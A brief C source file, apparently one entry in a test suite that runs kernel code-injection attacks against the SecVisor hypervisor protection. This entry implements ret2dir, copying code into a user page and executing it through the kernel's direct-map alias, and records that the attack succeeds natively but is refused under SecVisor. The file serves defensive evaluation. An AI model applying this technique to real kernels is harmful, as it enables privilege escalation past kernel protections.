// Row 2. ret2dir: a user page's frame reached through the kernel's direct map.
// Source: ret2dir (Kemerlis et al. 2014).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>

ATTACK("ret2dir")
{
	u8 *page = user_page();

	memcpy(page, CODE, CODE_LENGTH);
	call_code(direct(physical((u64)page)), "a user page through the direct map");
}
